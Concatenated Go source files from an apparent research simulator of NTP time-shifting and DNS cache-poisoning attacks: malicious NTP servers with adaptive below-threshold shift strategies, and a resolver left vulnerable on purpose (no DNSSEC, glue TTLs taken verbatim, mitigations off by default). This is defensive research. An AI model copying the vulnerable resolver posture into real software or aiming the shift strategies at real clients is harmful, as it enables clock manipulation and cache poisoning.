// servers on one simulated network, which is how core scenarios and the
// fleet study populate benign and attacker address space.
package ntpserver

import (
	"fmt"
	"time"

	"chronosntp/internal/clock"
	"chronosntp/internal/ntpauth"
	"chronosntp/internal/ntpwire"
	"chronosntp/internal/simnet"
)

// ShiftStrategy decides the time shift a malicious server applies to its
// transmit/receive timestamps for one request. Honest servers use nil.
type ShiftStrategy interface {
	// Shift returns the offset to add to the server's clock reading for
	// the response sent at (true) time now.
	Shift(now time.Time) time.Duration
}

// ConstantShift shifts every response by a fixed amount.
type ConstantShift time.Duration

var _ ShiftStrategy = ConstantShift(0)

// Shift implements ShiftStrategy.
func (c ConstantShift) Shift(time.Time) time.Duration { return time.Duration(c) }

// ShiftFunc adapts a function to ShiftStrategy. The attack package uses it
// for adaptive below-threshold strategies.
type ShiftFunc func(now time.Time) time.Duration

var _ ShiftStrategy = ShiftFunc(nil)

// Shift implements ShiftStrategy.
func (f ShiftFunc) Shift(now time.Time) time.Duration { return f(now) }

// RequestShiftStrategy is the MitM-grade extension of ShiftStrategy: a
// strategy implementing it is shown the client's request packet and source
// address before deciding the shift. This matters because an NTP client
// leaks its own clock in the request's TransmitTime — an attacker-controlled
// server (or an on-path attacker) reads the client's current error straight
// off the wire and serves the largest lie that still passes the client's
// sanity checks. The shiftsim strategies use it for their adaptive modes.
type RequestShiftStrategy interface {
	ShiftStrategy
	// ShiftForRequest returns the offset to apply for the response to req,
	// received at (true) time now from the given client address.
	ShiftForRequest(now time.Time, req *ntpwire.Packet, from simnet.Addr) time.Duration
}

// Config parameterises a Server.
type Config struct {
	Stratum     uint8         // default 2
	ReferenceID uint32        // default "SIM\0"
	Clock       *clock.Clock  // server's local clock; nil means perfect
	Strategy    ShiftStrategy // nil = honest
	Processing  time.Duration // server-side processing delay between RX and TX timestamps; default 10µs

	// Auth is the server's authentication policy (symmetric keys, NTS,
	// require/deny). nil serves everyone unauthenticated with replies
	// byte-identical to the pre-auth stack.
	Auth *ntpauth.ServerAuth
}

func (c Config) withDefaults() Config {
	if c.Stratum == 0 {
		c.Stratum = 2
	}
	if c.ReferenceID == 0 {
		c.ReferenceID = 0x53494D00 // "SIM\0"
	}
	if c.Clock == nil {
		c.Clock = &clock.Clock{}
	}
	if c.Processing == 0 {
		c.Processing = 10 * time.Microsecond
	}
	return c
}

// Server is an NTP server bound to port 123 of a simulated host. All
// reply construction lives in the shared Responder; the Server is only
// the simnet binding (wirenet.Server is the real-socket one).
type Server struct {
	host      *simnet.Host
	responder *Responder
	state     ServeState
	wireBuf   []byte // reply encode scratch, reused across requests
}

// New binds a server to host.
func New(host *simnet.Host, cfg Config) (*Server, error) {
	s := &Server{host: host, responder: NewResponder(cfg)}
	if err := host.Listen(ntpwire.Port, s.handle); err != nil {
		return nil, fmt.Errorf("ntpserver: %w", err)
	}
	return s, nil
}

// Addr returns the server's NTP endpoint.
func (s *Server) Addr() simnet.Addr { return simnet.Addr{IP: s.host.IP(), Port: ntpwire.Port} }

// Responder exposes the server's reply core (shared with wirenet).
func (s *Server) Responder() *Responder { return s.responder }

// Queries reports the number of requests served.
func (s *Server) Queries() uint64 { return s.responder.Queries() }

// Malicious reports whether the server applies a shift strategy.
func (s *Server) Malicious() bool { return s.responder.Malicious() }

// SetStrategy swaps the shift strategy at runtime (attack orchestration).
func (s *Server) SetStrategy(st ShiftStrategy) { s.responder.SetStrategy(st) }

// handle answers mode-3 client requests. The simnet event loop is
// single-threaded, so the per-server ServeState scratch is race-free.
func (s *Server) handle(now time.Time, meta simnet.Meta, payload []byte) {
	// SendUDP copies the payload into a pooled buffer, so one reply
	// scratch per server serves every response without allocating.
	out, ok := s.responder.ServeDatagram(s.wireBuf, now, payload, &s.state, meta.From)
	s.wireBuf = out
	if !ok {
		return
	}
	_ = s.host.SendUDP(ntpwire.Port, meta.From, s.wireBuf)
}

// Farm creates count NTP servers on consecutive addresses starting at
// base, returning their addresses. Honest servers get small random clock
// errors (offset up to ±maxErr, drift up to ±drift ppm) drawn from the
// network RNG, so the simulated pool shows realistic dispersion.
func Farm(n *simnet.Network, base simnet.IP, count int, maxErr time.Duration, driftPPM float64) ([]*Server, []simnet.IP, error) {
	servers := make([]*Server, 0, count)
	ips := make([]simnet.IP, 0, count)
	rng := n.Rand()
	for i := 0; i < count; i++ {
		ip := offsetIP(base, i)
		host, err := n.AddHost(ip)
		if err != nil {
			return nil, nil, fmt.Errorf("farm host %d: %w", i, err)
		}
		var off time.Duration
		if maxErr > 0 {
			off = time.Duration(rng.Int63n(int64(2*maxErr))) - maxErr
		}
		var drift float64
		if driftPPM > 0 {
			drift = rng.Float64()*2*driftPPM - driftPPM
		}
		srv, err := New(host, Config{Clock: clock.New(n.Now(), off, drift)})
		if err != nil {
			return nil, nil, err
		}
		servers = append(servers, srv)
		ips = append(ips, ip)
	}
	return servers, ips, nil
}

// MaliciousFarm creates count malicious servers sharing one strategy.
func MaliciousFarm(n *simnet.Network, base simnet.IP, count int, strategy ShiftStrategy) ([]*Server, []simnet.IP, error) {
	servers := make([]*Server, 0, count)
	ips := make([]simnet.IP, 0, count)
	for i := 0; i < count; i++ {
		ip := offsetIP(base, i)
		host, err := n.AddHost(ip)
		if err != nil {
			return nil, nil, fmt.Errorf("malicious farm host %d: %w", i, err)
		}
		srv, err := New(host, Config{Strategy: strategy})
		if err != nil {
			return nil, nil, err
		}
		servers = append(servers, srv)
		ips = append(ips, ip)
	}
	return servers, ips, nil
}

// offsetIP adds i to the host portion of base (carrying into octets).
func offsetIP(base simnet.IP, i int) simnet.IP {
	v := uint32(base[0])<<24 | uint32(base[1])<<16 | uint32(base[2])<<8 | uint32(base[3])
	v += uint32(i)
	return simnet.IPv4(byte(v>>24), byte(v>>16), byte(v>>8), byte(v))
}
