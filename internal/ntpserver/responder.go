package ntpserver

import (
	"sync"
	"sync/atomic"
	"time"

	"chronosntp/internal/ntpauth"
	"chronosntp/internal/ntpwire"
	"chronosntp/internal/simnet"
)

// Responder is the transport-independent core of an NTP server: given a
// decoded client request and a receive timestamp, it fills in the mode-4
// reply. The simnet Server and the real-socket wirenet.Server both
// delegate here, so the two serving paths cannot drift — a reply is a
// pure function of (config, strategy, now, request), whichever wire
// carried the request.
//
// Respond is safe for concurrent use: the query counter is atomic and
// strategy invocations are serialised under a mutex (shift strategies may
// be stateful). The clock must not be stepped while the responder is
// serving.
type Responder struct {
	cfg     Config
	mu      sync.Mutex // serialises strategy access on the concurrent wire path
	queries atomic.Uint64
}

// NewResponder builds a Responder with cfg's defaults resolved.
func NewResponder(cfg Config) *Responder {
	return &Responder{cfg: cfg.withDefaults()}
}

// Config returns the effective configuration (defaults applied).
func (r *Responder) Config() Config { return r.cfg }

// Queries reports the number of requests answered.
func (r *Responder) Queries() uint64 { return r.queries.Load() }

// Malicious reports whether the responder applies a shift strategy.
func (r *Responder) Malicious() bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.cfg.Strategy != nil
}

// SetStrategy swaps the shift strategy at runtime (attack orchestration).
func (r *Responder) SetStrategy(st ShiftStrategy) {
	r.mu.Lock()
	r.cfg.Strategy = st
	r.mu.Unlock()
}

// Respond answers one mode-3 client request received at (true) time now
// from the given address, overwriting resp with the reply. It returns
// false — leaving resp untouched — when the request is not a client-mode
// packet. No allocation occurs: this is the steady serve path of the
// real-socket server.
func (r *Responder) Respond(resp *ntpwire.Packet, now time.Time, req *ntpwire.Packet, from simnet.Addr) bool {
	if req.Mode != ntpwire.ModeClient {
		return false
	}
	r.queries.Add(1)

	shift := time.Duration(0)
	r.mu.Lock()
	if rs, ok := r.cfg.Strategy.(RequestShiftStrategy); ok {
		shift = rs.ShiftForRequest(now, req, from)
	} else if r.cfg.Strategy != nil {
		shift = r.cfg.Strategy.Shift(now)
	}
	r.mu.Unlock()
	recv := r.cfg.Clock.Now(now).Add(shift)
	xmit := r.cfg.Clock.Now(now.Add(r.cfg.Processing)).Add(shift)

	*resp = ntpwire.Packet{
		Leap:           ntpwire.LeapNone,
		Version:        ntpwire.Version,
		Mode:           ntpwire.ModeServer,
		Stratum:        r.cfg.Stratum,
		Poll:           req.Poll,
		Precision:      -23,
		RootDelay:      ntpwire.ShortFromDuration(5 * time.Millisecond),
		RootDispersion: ntpwire.ShortFromDuration(time.Millisecond),
		ReferenceID:    r.cfg.ReferenceID,
		ReferenceTime:  ntpwire.TimestampFromTime(recv.Add(-30 * time.Second)),
		OriginTime:     req.TransmitTime,
		ReceiveTime:    ntpwire.TimestampFromTime(recv),
		TransmitTime:   ntpwire.TimestampFromTime(xmit),
	}
	return true
}

// ServeState is per-caller scratch for ServeDatagram: the decoded
// request and reply packets and the request's authentication
// classification. Each read loop (or simnet server) owns one, keeping
// the steady serve path free of per-request allocation.
type ServeState struct {
	Req  ntpwire.Packet
	Resp ntpwire.Packet
	RA   ntpauth.RequestAuth
}

// ServeDatagram is the authenticated, transport-independent serve path:
// classify the raw datagram's credentials against the configured
// ntpauth.ServerAuth, apply the kiss-o'-death policy, then fill, encode
// and credential-seal the reply into out[:0], returning the reply bytes
// and whether one should be sent. The simnet Server and the real-socket
// wirenet.Server both call exactly this function, so authenticated
// replies are byte-identical across transports — the property the
// conformance suite pins. With a nil Auth policy the output bytes are
// identical to Respond + AppendEncode, i.e. the pre-auth wire format.
//
// Requests whose credentials are present but invalid (bad MAC, bad
// cookie, failed AEAD) are dropped silently: answering would give a MAC
// oracle, and RFC 5905's crypto-NAK adds nothing the experiments
// measure. The MAC path performs no heap allocation given spare
// capacity in out.
//
// Unlike Respond, ServeDatagram must not be called concurrently for the
// same underlying Auth policy state; wirenet serialises it with a mutex
// when running multiple listeners.
func (r *Responder) ServeDatagram(out []byte, now time.Time, raw []byte, st *ServeState, from simnet.Addr) ([]byte, bool) {
	if err := ntpwire.DecodeInto(&st.Req, raw); err != nil {
		return out, false
	}
	auth := r.cfg.Auth
	auth.Authenticate(raw, &st.RA)
	if st.RA.Bad {
		return out, false
	}
	if st.Req.Mode != ntpwire.ModeClient {
		return out, false
	}
	if kiss := auth.KissFor(&st.RA); kiss != 0 {
		// Kisses are stamped from the server's own clock and sealed like
		// any reply, so authenticated associations can tell a genuine
		// kiss from a forged one (RFC 8915 §5.7).
		r.queries.Add(1)
		ntpauth.FillKoD(&st.Resp, kiss, &st.Req, r.cfg.Clock.Now(now))
		out = st.Resp.AppendEncode(out[:0])
		return auth.SealResponse(out, &st.RA), true
	}
	if !r.Respond(&st.Resp, now, &st.Req, from) {
		return out, false
	}
	out = st.Resp.AppendEncode(out[:0])
	return auth.SealResponse(out, &st.RA), true
}
