package ntpserver

import (
	"sync"
	"sync/atomic"
	"time"

	"chronosntp/internal/ntpwire"
	"chronosntp/internal/simnet"
)

// Responder is the transport-independent core of an NTP server: given a
// decoded client request and a receive timestamp, it fills in the mode-4
// reply. The simnet Server and the real-socket wirenet.Server both
// delegate here, so the two serving paths cannot drift — a reply is a
// pure function of (config, strategy, now, request), whichever wire
// carried the request.
//
// Respond is safe for concurrent use: the query counter is atomic and
// strategy invocations are serialised under a mutex (shift strategies may
// be stateful). The clock must not be stepped while the responder is
// serving.
type Responder struct {
	cfg     Config
	mu      sync.Mutex // serialises strategy access on the concurrent wire path
	queries atomic.Uint64
}

// NewResponder builds a Responder with cfg's defaults resolved.
func NewResponder(cfg Config) *Responder {
	return &Responder{cfg: cfg.withDefaults()}
}

// Config returns the effective configuration (defaults applied).
func (r *Responder) Config() Config { return r.cfg }

// Queries reports the number of requests answered.
func (r *Responder) Queries() uint64 { return r.queries.Load() }

// Malicious reports whether the responder applies a shift strategy.
func (r *Responder) Malicious() bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.cfg.Strategy != nil
}

// SetStrategy swaps the shift strategy at runtime (attack orchestration).
func (r *Responder) SetStrategy(st ShiftStrategy) {
	r.mu.Lock()
	r.cfg.Strategy = st
	r.mu.Unlock()
}

// Respond answers one mode-3 client request received at (true) time now
// from the given address, overwriting resp with the reply. It returns
// false — leaving resp untouched — when the request is not a client-mode
// packet. No allocation occurs: this is the steady serve path of the
// real-socket server.
func (r *Responder) Respond(resp *ntpwire.Packet, now time.Time, req *ntpwire.Packet, from simnet.Addr) bool {
	if req.Mode != ntpwire.ModeClient {
		return false
	}
	r.queries.Add(1)

	shift := time.Duration(0)
	r.mu.Lock()
	if rs, ok := r.cfg.Strategy.(RequestShiftStrategy); ok {
		shift = rs.ShiftForRequest(now, req, from)
	} else if r.cfg.Strategy != nil {
		shift = r.cfg.Strategy.Shift(now)
	}
	r.mu.Unlock()
	recv := r.cfg.Clock.Now(now).Add(shift)
	xmit := r.cfg.Clock.Now(now.Add(r.cfg.Processing)).Add(shift)

	*resp = ntpwire.Packet{
		Leap:           ntpwire.LeapNone,
		Version:        ntpwire.Version,
		Mode:           ntpwire.ModeServer,
		Stratum:        r.cfg.Stratum,
		Poll:           req.Poll,
		Precision:      -23,
		RootDelay:      ntpwire.ShortFromDuration(5 * time.Millisecond),
		RootDispersion: ntpwire.ShortFromDuration(time.Millisecond),
		ReferenceID:    r.cfg.ReferenceID,
		ReferenceTime:  ntpwire.TimestampFromTime(recv.Add(-30 * time.Second)),
		OriginTime:     req.TransmitTime,
		ReceiveTime:    ntpwire.TimestampFromTime(recv),
		TransmitTime:   ntpwire.TimestampFromTime(xmit),
	}
	return true
}
