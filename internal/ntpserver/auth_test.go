package ntpserver

import (
	"testing"
	"time"

	"chronosntp/internal/ntpauth"
	"chronosntp/internal/ntpwire"
	"chronosntp/internal/simnet"
)

// TestServeDatagramAuthZeroAlloc pins the allocation ceiling of the
// authenticated serve path: decode, MAC verify, respond, encode and
// MAC-seal must all run without touching the heap once the caller's
// scratch (ServeState + output buffer) has warmed up. This is the
// per-datagram cost the wirenet read loop pays, so any allocation here
// multiplies by every request the real-socket server handles. The NTS
// path is exempt — AEAD sealing allocates per request and is documented
// as off the zero-alloc contract.
func TestServeDatagramAuthZeroAlloc(t *testing.T) {
	key := ntpauth.Key{ID: 9, Algo: ntpauth.AlgoSHA256, Secret: []byte("alloc-ceiling-secret")}
	tbl, err := ntpauth.NewKeyTable(key)
	if err != nil {
		t.Fatal(err)
	}
	r := NewResponder(Config{Auth: &ntpauth.ServerAuth{Keys: tbl, Require: true}})

	now := time.Unix(1591000000, 0)
	raw := ntpwire.NewClientPacket(now).Encode()
	req, ok := ntpauth.NewMACer(tbl).AppendMAC(raw, key.ID, raw)
	if !ok {
		t.Fatal("AppendMAC failed")
	}
	from := simnet.Addr{IP: simnet.IPv4(10, 0, 0, 1), Port: 40000}

	var st ServeState
	out := make([]byte, 0, 1024)
	// Warm-up: the policy's MACer and hash states are allocated lazily
	// on first use; the steady-state contract starts at request two.
	if out, ok = r.ServeDatagram(out, now, req, &st, from); !ok {
		t.Fatal("warm-up request not answered")
	}

	allocs := testing.AllocsPerRun(200, func() {
		var answered bool
		out, answered = r.ServeDatagram(out, now, req, &st, from)
		if !answered {
			t.Fatal("authenticated request not answered")
		}
	})
	if allocs != 0 {
		t.Fatalf("authenticated serve path allocates %.1f times per request, want 0", allocs)
	}

	// The reply must actually carry a valid MAC — a zero-alloc path that
	// silently stopped sealing would pass the ceiling check vacuously.
	ca := &ntpauth.ClientAuth{Key: key, Require: true}
	if authed, acceptable := ca.VerifyResponse(out); !authed || !acceptable {
		t.Fatalf("sealed reply fails verification (authed=%v acceptable=%v)", authed, acceptable)
	}
}
