// Package dnsresolver implements a caching iterative DNS resolver on the
// simulated network.
//
// The resolver is deliberately faithful to the security posture the paper
// analyses:
//
//   - 16-bit transaction IDs and (optionally) randomised source ports are
//     the only off-path defences — there is no DNSSEC, matching the
//     finding that the pool.ntp.org nameservers do not support it;
//   - fragmented responses are reassembled by the host IP stack *before*
//     TXID/port validation, so a planted spoofed fragment bypasses both;
//   - referral glue within the queried zone's bailiwick is cached,
//     including its attacker-controlled TTL;
//   - the resolver is shared: any client that can make it query (a web
//     stub, an SMTP server, the Chronos client itself) triggers cache
//     fills on behalf of every other client.
//
// Acceptance policies (maximum answer-record count, maximum TTL) implement
// the mitigations from §V of the paper and are disabled by default —
// default behaviour is the vulnerable one the paper attacks.
package dnsresolver

import (
	"errors"
	"fmt"
	"strings"
	"time"

	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

// DNSPort is the well-known DNS UDP port.
const DNSPort = 53

// Resolution errors.
var (
	ErrTimeout    = errors.New("dnsresolver: upstream timeout")
	ErrServFail   = errors.New("dnsresolver: server failure")
	ErrNXDomain   = errors.New("dnsresolver: no such domain")
	ErrNoData     = errors.New("dnsresolver: no records")
	ErrDepthLimit = errors.New("dnsresolver: referral depth exceeded")
)

// AcceptancePolicy is the response-vetting hook. The zero value accepts
// everything (the vulnerable default). The paper's §V mitigations
// instantiate it via the mitigation package.
type AcceptancePolicy struct {
	// MaxAnswerRecords rejects responses carrying more answer records
	// (0 = unlimited). The paper: "not allowing more than 4 addresses in
	// a single DNS reply".
	MaxAnswerRecords int
	// MaxTTL rejects responses carrying any record with a larger TTL
	// (0 = unlimited). The paper: "discarding responses with high TTL
	// values".
	MaxTTL time.Duration
}

// Violates reports whether msg trips the policy.
func (p AcceptancePolicy) Violates(msg *dnswire.Message) bool {
	if p.MaxAnswerRecords > 0 && len(msg.Answers) > p.MaxAnswerRecords {
		return true
	}
	if p.MaxTTL > 0 {
		limit := uint32(p.MaxTTL / time.Second)
		for _, sec := range [][]dnswire.RR{msg.Answers, msg.Authority, msg.Additional} {
			for _, rr := range sec {
				if rr.Type != dnswire.TypeOPT && rr.TTL > limit {
					return true
				}
			}
		}
	}
	return false
}

// Config parameterises a Resolver.
type Config struct {
	RandomizeSourcePort bool             // source-port randomisation (anti-spoofing)
	EDNSSize            uint16           // advertised to upstreams; 0 disables EDNS0
	Timeout             time.Duration    // per-upstream-query timeout; default 2s
	Retries             int              // upstream retries after the first attempt; default 2
	NegativeTTL         time.Duration    // negative-cache lifetime; default 30s
	MaxDepth            int              // referral-chasing limit; default 10
	Accept              AcceptancePolicy // §V mitigations; zero = vulnerable
}

func (c Config) withDefaults() Config {
	if c.Timeout == 0 {
		c.Timeout = 2 * time.Second
	}
	if c.Retries == 0 {
		c.Retries = 2
	}
	if c.NegativeTTL == 0 {
		c.NegativeTTL = 30 * time.Second
	}
	if c.MaxDepth == 0 {
		c.MaxDepth = 10
	}
	return c
}

// Stats counts resolver activity for experiments.
type Stats struct {
	ClientQueries   uint64
	CacheHits       uint64
	UpstreamQueries uint64
	Timeouts        uint64
	PolicyRejects   uint64
	Failures        uint64
}

// Hint seeds the resolver's knowledge of where a zone's nameserver lives
// (root hints, conceptually).
type Hint struct {
	Zone string
	Addr simnet.Addr
}

// Result is delivered to Lookup callbacks.
type Result struct {
	RRs  []dnswire.RR
	Err  error
	From string // zone of the answering server, for diagnostics
}

// Callback receives the outcome of an internal lookup.
type Callback func(Result)

// Resolver is a caching iterative resolver bound to a simulated host.
type Resolver struct {
	host  *simnet.Host
	cfg   Config
	cache *Cache
	hints []Hint
	stats Stats

	inflight map[cacheKey]*inflightQuery
}

// inflightQuery tracks one client-visible resolution (possibly several
// upstream round trips deep) with coalesced waiters.
type inflightQuery struct {
	key      cacheKey
	waiters  []Callback
	depth    int
	attempts int

	txid    uint16
	srcPort uint16
	zone    string      // zone of the server currently queried
	server  simnet.Addr // server currently queried
	timer   simnet.Timer
}

// New binds a resolver to host, listening for stub queries on port 53.
func New(host *simnet.Host, cfg Config, hints []Hint) (*Resolver, error) {
	if len(hints) == 0 {
		return nil, errors.New("dnsresolver: at least one hint required")
	}
	r := &Resolver{
		host:     host,
		cfg:      cfg.withDefaults(),
		cache:    NewCache(),
		inflight: make(map[cacheKey]*inflightQuery),
	}
	for _, h := range hints {
		h.Zone = dnswire.NormalizeName(h.Zone)
		r.hints = append(r.hints, h)
	}
	if err := host.Listen(DNSPort, r.handleClient); err != nil {
		return nil, fmt.Errorf("dnsresolver: %w", err)
	}
	return r, nil
}

// Addr returns the resolver's client-facing endpoint.
func (r *Resolver) Addr() simnet.Addr { return simnet.Addr{IP: r.host.IP(), Port: DNSPort} }

// Cache exposes the resolver cache for experiment instrumentation.
func (r *Resolver) Cache() *Cache { return r.cache }

// Stats returns a snapshot of the activity counters.
func (r *Resolver) Stats() Stats { return r.stats }

// Host returns the underlying simulated host (attack code targets its
// reassembly cache).
func (r *Resolver) Host() *simnet.Host { return r.host }

// handleClient serves stub clients over UDP.
func (r *Resolver) handleClient(now time.Time, meta simnet.Meta, payload []byte) {
	query, err := dnswire.DecodeBorrow(payload)
	if err != nil || query.Response || len(query.Questions) != 1 {
		return
	}
	r.stats.ClientQueries++
	q := query.Questions[0]
	from, id := meta.From, query.ID
	r.Lookup(q.Name, q.Type, func(res Result) {
		resp := query.Reply()
		resp.ID = id
		resp.RecursionAvailable = true
		switch {
		case res.Err == nil:
			resp.Answers = res.RRs
		case errors.Is(res.Err, ErrNXDomain):
			resp.RCode = dnswire.RCodeNXDomain
		default:
			resp.RCode = dnswire.RCodeServFail
		}
		if b, err := resp.Encode(); err == nil {
			_ = r.host.SendUDP(DNSPort, from, b)
		}
	})
}

// Lookup resolves (name, qtype), invoking cb exactly once — synchronously
// on a cache hit, otherwise after upstream resolution completes or fails.
func (r *Resolver) Lookup(name string, qtype dnswire.Type, cb Callback) {
	name = dnswire.NormalizeName(name)
	now := r.host.Net().Now()
	if rrs, ok := r.cache.Get(now, name, qtype); ok {
		r.stats.CacheHits++
		cb(Result{RRs: rrs, From: "cache"})
		return
	}
	if r.cache.GetNegative(now, name, qtype) {
		r.stats.CacheHits++
		cb(Result{Err: ErrNXDomain, From: "cache"})
		return
	}
	key := cacheKey{name: name, qtype: qtype}
	if q, ok := r.inflight[key]; ok {
		q.waiters = append(q.waiters, cb)
		return
	}
	q := &inflightQuery{key: key, waiters: []Callback{cb}}
	r.inflight[key] = q
	r.step(q)
}

// deepestKnownZone finds the most specific zone containing name for which
// we know a server address, from cached NS+A records and hints. It walks
// the suffixes from most specific to the root ("") by reslicing name, so
// the per-step walk allocates nothing.
func (r *Resolver) deepestKnownZone(now time.Time, name string) (zone string, addr simnet.Addr, ok bool) {
	suffix := name
	for {
		if nsSet, found := r.cache.Get(now, suffix, dnswire.TypeNS); found {
			for _, ns := range nsSet {
				if aSet, found := r.cache.Get(now, ns.Target, dnswire.TypeA); found && len(aSet) > 0 {
					return suffix, simnet.Addr{IP: simnet.IP(aSet[0].A), Port: DNSPort}, true
				}
			}
		}
		for _, h := range r.hints {
			if h.Zone == suffix {
				return suffix, h.Addr, true
			}
		}
		if suffix == "" {
			return "", simnet.Addr{}, false
		}
		if i := strings.IndexByte(suffix, '.'); i >= 0 {
			suffix = suffix[i+1:]
		} else {
			suffix = ""
		}
	}
}

// step issues (or re-issues) the upstream query for q.
func (r *Resolver) step(q *inflightQuery) {
	now := r.host.Net().Now()
	if q.depth >= r.cfg.MaxDepth {
		r.finish(q, Result{Err: ErrDepthLimit})
		return
	}
	zone, server, ok := r.deepestKnownZone(now, q.key.name)
	if !ok {
		r.finish(q, Result{Err: ErrServFail})
		return
	}
	q.zone, q.server = zone, server
	q.txid = uint16(r.host.Net().Rand().Intn(1 << 16))
	if q.srcPort != 0 {
		r.host.Close(q.srcPort)
	}
	if r.cfg.RandomizeSourcePort {
		q.srcPort = r.host.RandomPort()
	} else {
		q.srcPort = r.host.EphemeralPort()
	}
	if err := r.host.Listen(q.srcPort, r.upstreamHandler(q)); err != nil {
		r.finish(q, Result{Err: ErrServFail})
		return
	}
	msg := dnswire.NewQuery(q.txid, q.key.name, q.key.qtype)
	msg.RecursionDesired = false
	if r.cfg.EDNSSize > 0 {
		msg.SetEDNS(r.cfg.EDNSSize)
	}
	b, err := msg.Encode()
	if err != nil {
		r.finish(q, Result{Err: ErrServFail})
		return
	}
	r.stats.UpstreamQueries++
	_ = r.host.SendUDP(q.srcPort, server, b)
	q.timer = r.host.Net().After(r.cfg.Timeout, func() { r.timeout(q) })
}

// timeout retries or fails an upstream query.
func (r *Resolver) timeout(q *inflightQuery) {
	if _, live := r.inflight[q.key]; !live {
		return
	}
	r.stats.Timeouts++
	q.attempts++
	if q.attempts > r.cfg.Retries {
		r.finish(q, Result{Err: ErrTimeout})
		return
	}
	r.step(q)
}

// upstreamHandler validates and processes a response for q.
func (r *Resolver) upstreamHandler(q *inflightQuery) simnet.Handler {
	return func(now time.Time, meta simnet.Meta, payload []byte) {
		if _, live := r.inflight[q.key]; !live {
			return
		}
		if meta.From != q.server {
			return // wrong source address: off-path noise
		}
		msg, err := dnswire.Decode(payload)
		if err != nil || !msg.Response || msg.ID != q.txid {
			return // TXID mismatch: spoof attempt or stale
		}
		if len(msg.Questions) != 1 ||
			dnswire.NormalizeName(msg.Questions[0].Name) != q.key.name ||
			msg.Questions[0].Type != q.key.qtype {
			return
		}
		if r.cfg.Accept.Violates(msg) {
			r.stats.PolicyRejects++
			return // hardened resolver drops and waits (timeout will retry)
		}
		r.processResponse(q, now, msg)
	}
}

// processResponse consumes a validated upstream response.
func (r *Resolver) processResponse(q *inflightQuery, now time.Time, msg *dnswire.Message) {
	q.timer.Cancel()
	switch msg.RCode {
	case dnswire.RCodeNoError:
	case dnswire.RCodeNXDomain:
		r.cache.PutNegative(now, q.key.name, q.key.qtype, r.cfg.NegativeTTL)
		r.finish(q, Result{Err: ErrNXDomain, From: q.zone})
		return
	default:
		r.finish(q, Result{Err: ErrServFail, From: q.zone})
		return
	}

	// Direct answers for the question, within bailiwick.
	var answers []dnswire.RR
	for _, rr := range msg.Answers {
		if dnswire.NormalizeName(rr.Name) == q.key.name && rr.Type == q.key.qtype &&
			dnswire.InZone(rr.Name, q.zone) {
			answers = append(answers, rr)
		}
	}
	if len(answers) > 0 {
		r.cache.Put(now, q.key.name, q.key.qtype, answers)
		r.finish(q, Result{RRs: answers, From: q.zone})
		return
	}

	// Referral: authority NS records for a deeper zone, with glue.
	// Bailiwick: both the delegated zone and any glue must sit inside the
	// answering server's zone — but the *glue TTL and address* are taken
	// verbatim, which is what defragmentation poisoning abuses.
	progressed := false
	for _, ns := range msg.Authority {
		if ns.Type != dnswire.TypeNS {
			continue
		}
		delegated := dnswire.NormalizeName(ns.Name)
		if !dnswire.InZone(q.key.name, delegated) || !dnswire.InZone(delegated, q.zone) {
			continue
		}
		if delegated == q.zone {
			continue // no progress; avoid loops
		}
		r.cache.Put(now, delegated, dnswire.TypeNS, []dnswire.RR{ns})
		for _, glue := range msg.Additional {
			if glue.Type == dnswire.TypeA &&
				dnswire.NormalizeName(glue.Name) == dnswire.NormalizeName(ns.Target) &&
				dnswire.InZone(glue.Name, q.zone) {
				r.cache.Put(now, glue.Name, dnswire.TypeA, []dnswire.RR{glue})
			}
		}
		progressed = true
	}
	if progressed {
		q.depth++
		r.step(q)
		return
	}

	if msg.Authoritative {
		// Authoritative empty answer: NODATA.
		r.cache.PutNegative(now, q.key.name, q.key.qtype, r.cfg.NegativeTTL)
		r.finish(q, Result{Err: ErrNoData, From: q.zone})
		return
	}
	r.finish(q, Result{Err: ErrServFail, From: q.zone})
}

// finish delivers the result to all waiters and releases resources.
func (r *Resolver) finish(q *inflightQuery, res Result) {
	q.timer.Cancel()
	if q.srcPort != 0 {
		r.host.Close(q.srcPort)
		q.srcPort = 0
	}
	delete(r.inflight, q.key)
	if res.Err != nil {
		r.stats.Failures++
	}
	for _, cb := range q.waiters {
		cb(res)
	}
}
