package dnsresolver

import (
	"errors"
	"testing"
	"time"

	"chronosntp/internal/dnsserver"
	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

var (
	rootIP     = simnet.IPv4(198, 41, 0, 4)
	ntpOrgIP   = simnet.IPv4(198, 51, 100, 10)
	resolverIP = simnet.IPv4(10, 0, 0, 53)
	stubIP     = simnet.IPv4(10, 0, 0, 1)
)

// topo is the canonical two-level DNS hierarchy used across the
// reproduction: root delegates ntp.org; the ntp.org server hosts the pool
// zone.
type topo struct {
	net      *simnet.Network
	root     *dnsserver.Authoritative
	ntporg   *dnsserver.Authoritative
	pool     *dnsserver.PoolZone
	resolver *Resolver
	stubHost *simnet.Host
	stub     *Stub
}

func newTopo(t *testing.T, cfg Config) *topo {
	t.Helper()
	n := simnet.New(simnet.Config{Seed: 31})

	rootHost, err := n.AddHost(rootIP)
	if err != nil {
		t.Fatal(err)
	}
	rootSrv, err := dnsserver.New(rootHost)
	if err != nil {
		t.Fatal(err)
	}
	rootZone := dnsserver.NewDelegatingZone("")
	rootZone.Delegate(dnsserver.Delegation{
		Child: "ntp.org",
		NSTTL: 3600,
		Glue:  []dnsserver.NSGlue{{Name: "ns1.ntp.org", IP: ntpOrgIP, TTL: 3600}},
	})
	if err := rootSrv.AddZone("", rootZone); err != nil {
		t.Fatal(err)
	}

	ntpHost, err := n.AddHost(ntpOrgIP)
	if err != nil {
		t.Fatal(err)
	}
	ntpSrv, err := dnsserver.New(ntpHost)
	if err != nil {
		t.Fatal(err)
	}
	inventory := make([]simnet.IP, 500)
	for i := range inventory {
		inventory[i] = simnet.IPv4(203, byte(i/250), byte(i%250), 1)
	}
	pool, err := dnsserver.NewPoolZone(dnsserver.PoolConfig{Name: "pool.ntp.org"}, n.Now(), inventory)
	if err != nil {
		t.Fatal(err)
	}
	if err := ntpSrv.AddZone("pool.ntp.org", pool); err != nil {
		t.Fatal(err)
	}
	ntpZone := dnsserver.NewStaticZone("ntp.org")
	ntpZone.Add(dnswire.ARecord("ns1.ntp.org", 3600, [4]byte(ntpOrgIP)))
	ntpZone.Add(dnswire.TXTRecord("info.ntp.org", 60, "ntp zone"))
	if err := ntpSrv.AddZone("ntp.org", ntpZone); err != nil {
		t.Fatal(err)
	}

	resHost, err := n.AddHost(resolverIP)
	if err != nil {
